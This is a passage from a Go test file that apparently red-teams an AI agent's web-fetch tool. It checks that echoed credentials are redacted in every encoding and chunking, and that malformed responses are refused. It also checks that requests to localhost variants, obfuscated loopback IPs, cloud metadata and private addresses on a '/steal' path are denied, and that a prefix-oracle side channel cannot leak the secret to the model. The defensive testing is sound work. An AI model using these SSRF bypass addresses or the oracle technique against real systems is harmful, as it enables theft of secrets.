		{"/cl-te", func(t *testing.T, res agents.ToolResult) { assert.Equal(t, "hello", res.Body) }},
		{"/double-cl", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error) }},
		{"/short-body", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error) }},
	} {
		add(rtRow{name: "hostile response " + c.path, reqs: func(e *redTeam) []agents.ToolRequest {
			return []agents.ToolRequest{get(e.attacker.URL + c.path)}
		}, want: func(t *testing.T, e *redTeam, r rtReply) { c.want(t, r.one(t)) }})
	}

	// The owning origin echoes the credential, in every form the scrubber
	// claims, whole and split across reads.
	for _, form := range echoNames {
		for _, drip := range []bool{false, true} {
			name := "vault echoes the credential: " + form
			q := ""
			if drip {
				name += ", 3 bytes at a time"
				q = "?drip=1"
			}
			add(rtRow{name: name, reqs: func(e *redTeam) []agents.ToolRequest {
				return []agents.ToolRequest{get(e.vault.URL + "/echo/" + form + q), {URL: e.vault.URL + "/echo/" + form + q, Max: 5}}
			}, want: func(t *testing.T, e *redTeam, r rtReply) {
				require.Equal(t, http.StatusOK, r.status, "%s", r.body)
				for _, res := range r.results {
					// What surrounds the secret in its encoding may stay.
					assert.Regexp(t, `(?s)^before .*\[REDACTED:RT_TOKEN\].* after$`, res.Body, "%+v", res)
					for _, h := range res.Headers {
						if h[0] == "X-Echo" {
							assert.Contains(t, h[1], "[REDACTED:RT_TOKEN]")
						}
					}
				}
			}})
		}
	}
	for _, c := range []struct {
		path string
		want func(t *testing.T, res agents.ToolResult)
	}{
		// Header names reach the guest in lower case: hex is found in any
		// case, the rest in lower case, and the whole name goes.
		{"/header-name?form=hex", nameRedacted},
		{"/header-name?form=base64url", nameRedacted},
		{"/header-name?form=base64", func(t *testing.T, res agents.ToolResult) {
			if res.Error == "" { // a token unless it holds "/" or "="
				nameRedacted(t, res)
			}
		}},
		{"/header-name?form=raw", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error, "not a token") }},
		{"/status-text", func(t *testing.T, res agents.ToolResult) { assert.Equal(t, "ok", res.Body) }},
		{"/bad-line", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error) }},
		{"/trailer", func(t *testing.T, res agents.ToolResult) { assert.Equal(t, "ok", res.Body) }},
		{"/te-gzip", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error) }},
		{"/ce-spaced", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error) }},
		// After an interim response, the echo chunked 3 bytes at a time
		// (workerd handed it over as the 103's body, chunk sizes and all,
		// the secret split by them) or gzipped.
		{"/early-hints?then=chunked", func(t *testing.T, res agents.ToolResult) {
			if res.Error == "" {
				assert.Regexp(t, `^before \[REDACTED:RT_TOKEN\] after$`, res.Body)
			} else {
				assert.Contains(t, res.Error, "refusing an interim response (status 103)")
			}
		}},
		{"/early-hints?then=gzip", func(t *testing.T, res agents.ToolResult) { assert.NotEmpty(t, res.Error) }},
	} {
		add(rtRow{name: "vault echoes the credential: " + c.path, reqs: func(e *redTeam) []agents.ToolRequest {
			return []agents.ToolRequest{get(e.vault.URL + c.path)}
		}, want: func(t *testing.T, e *redTeam, r rtReply) { c.want(t, r.one(t)) }})
	}

	// Private addresses, through the report policy (which sends what it
	// would deny): only the local host's dialer stands in the way.
	for _, h := range []string{"localhost", "localhost.", "LOCALHOST", "ip6-localhost", "sub.localhost", "localhost.localdomain"} {
		add(rtRow{name: "report mode reaches " + h, report: true, localOnly: "Workers connect where the platform lets them", reqs: func(e *redTeam) []agents.ToolRequest {
			return []agents.ToolRequest{get("http://" + h + ":" + port(e.attacker) + "/steal")}
		}, want: func(t *testing.T, e *redTeam, r rtReply) {
			// Refused by the dialer, or a name nobody resolves.
			res := r.one(t)
			assert.NotEmpty(t, res.Error, "%+v", res)
			assert.Empty(t, r.attacker, "the request reached the loopback origin")
		}})
	}
	for _, h := range []string{"0.0.0.0", "[::]", "[::1]", "[::ffff:127.0.0.1]", "0x7f.1", "2130706433", "0177.0.0.1", "127.0.0.2", "[::127.0.0.1]",
		"[64:ff9b::7f00:1]", "[2002:7f00:1::]", "169.254.169.254", "[fe80::1]", "10.0.0.1", "[fd00::1]", "100.64.0.1"} {
		add(rtRow{name: "report mode reaches IP " + h, report: true, reqs: func(e *redTeam) []agents.ToolRequest {
			// Not the hostile origin's port: 127.0.0.1 there is service open's.
			return []agents.ToolRequest{get("http://" + h + ":1/steal")}
		}, want: denied})
	}

	// The prefix oracle: a hostile origin sends a guess at the secret and
	// pauses. If what the host hands out before the pause depends on
	// whether the guess begins the secret, the model learns the secret a
	// character at a time.
	for _, known := range []int{0, 6} {
		add(rtRow{name: fmt.Sprintf("prefix oracle through streamed reads, %d characters known", known), reqs: func(e *redTeam) []agents.ToolRequest {
			var reqs []agents.ToolRequest
			for _, c := range oracleAlphabet {
				reqs = append(reqs, get(e.attacker.URL+"/oracle?p="+url.QueryEscape(e.secret[:known]+string(c))))
			}
			return reqs
		}, want: func(t *testing.T, e *redTeam, r rtReply) {
			require.Equal(t, http.StatusOK, r.status, "%s", r.body)
			first := map[int][]string{}
			for i, res := range r.results {
				require.Empty(t, res.Error)
				require.NotEmpty(t, res.Reads)
				first[len(res.Reads[0])] = append(first[len(res.Reads[0])], string(oracleAlphabet[i]))
			}
			assert.Len(t, first, 1, "the first read's length depends on the guess (length: guesses): %v; the secret goes on with %q", first, e.secret[known:known+1])
		}})
	}
	return rows
}()

const oracleAlphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_+/="
